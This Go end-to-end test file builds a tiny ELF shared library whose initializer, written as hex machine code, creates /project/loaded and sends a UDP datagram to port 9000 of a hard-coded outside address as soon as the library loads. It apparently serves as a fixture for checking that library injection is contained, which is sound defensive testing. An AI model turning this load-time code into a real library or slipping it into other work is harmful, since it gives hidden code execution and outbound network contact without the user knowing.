//go:build e2e

package e2e

import (
	"bytes"
	"debug/elf"
	bin "encoding/binary"
	"encoding/hex"
	"runtime"
	"testing"
)

// evilCode is what the library does as it is loaded, by bare system calls: it
// makes the file /project/loaded and sends a datagram to port 9000 of evilAddr.
// Each ends with these two.
//
//	openat(AT_FDCWD, path, O_WRONLY|O_CREAT, 0644)	amd64: open
//	fd = socket(AF_INET, SOCK_DGRAM, 0)
//	sendto(fd, path, 8, 0, addr, 16)
//	return
var evilCode = map[string]struct {
	machine elf.Machine
	code    string
}{
	"amd64": {elf.EM_X86_64, "488d3d4a000000be41000000baa4010000b8020000000f05" +
		"bf02000000be0200000031d2b8290000000f05" +
		"89c7488d351d000000ba080000004531d24c8d051e00000041b910000000b82c0000000f05c3"},
	"arm64": {elf.EM_AARCH64, "600c809241020010220880d2833480d2080780d2010000d4" +
		"400080d2410080d2020080d2c81880d2010000d4" +
		"01010010020180d2030080d224010010050280d2c81980d2010000d4c0035fd6"},
}

// evilData is the path and the address that the code refers to.
const evilData = "/project/loaded\x00" + "\x02\x00" + "\x23\x28" + "\x5d\xb8\xd7\x42" + "\x00\x00\x00\x00\x00\x00\x00\x00"

// evilLibrary is a shared object of this machine's kind, as small as ld.so(8)
// takes it: nothing but an initializer.
func evilLibrary(t *testing.T) []byte {
	t.Helper()
	evil, known := evilCode[runtime.GOARCH]
	if !known {
		t.Fatalf("there is no library for %s", runtime.GOARCH)
	}
	code, err := hex.DecodeString(evil.code)
	if err != nil {
		t.Fatal(err)
	}
	code = append(code, evilData...)
	const header, program, symbol = 64, 56, 24
	at := uint64(header + 3*program)
	init := at
	at += uint64(len(code)+7) &^ 7
	strings, symbols := at, at+8 // an empty string, the symbol that stands for none
	dynamic := symbols + symbol
	tags := []elf.Dyn64{
		{Tag: int64(elf.DT_STRTAB), Val: strings}, {Tag: int64(elf.DT_STRSZ), Val: 1},
		{Tag: int64(elf.DT_SYMTAB), Val: symbols}, {Tag: int64(elf.DT_SYMENT), Val: symbol},
		{Tag: int64(elf.DT_INIT), Val: init}, {Tag: int64(elf.DT_NULL)},
	}
	size := uint64(16 * len(tags))
	end := dynamic + size
	var out bytes.Buffer
	put := func(v any) {
		if err := bin.Write(&out, bin.LittleEndian, v); err != nil {
			t.Fatal(err)
		}
	}
	put(elf.Header64{
		Ident: [elf.EI_NIDENT]byte{0x7f, 'E', 'L', 'F', byte(elf.ELFCLASS64), byte(elf.ELFDATA2LSB), byte(elf.EV_CURRENT)},
		Type:  uint16(elf.ET_DYN), Machine: uint16(evil.machine), Version: uint32(elf.EV_CURRENT),
		Phoff: header, Ehsize: header, Phentsize: program, Phnum: 3,
	})
	put([]elf.Prog64{
		{Type: uint32(elf.PT_LOAD), Flags: uint32(elf.PF_R | elf.PF_X), Filesz: end, Memsz: end, Align: 1 << 16},
		{Type: uint32(elf.PT_DYNAMIC), Flags: uint32(elf.PF_R), Off: dynamic, Vaddr: dynamic, Paddr: dynamic, Filesz: size, Memsz: size, Align: 8},
		// Without it the loader wants a stack that can be executed.
		{Type: uint32(elf.PT_GNU_STACK), Flags: uint32(elf.PF_R | elf.PF_W)},
	})
	out.Write(code)
	out.Write(make([]byte, dynamic-uint64(out.Len())))
	put(tags)
	return out.Bytes()
}
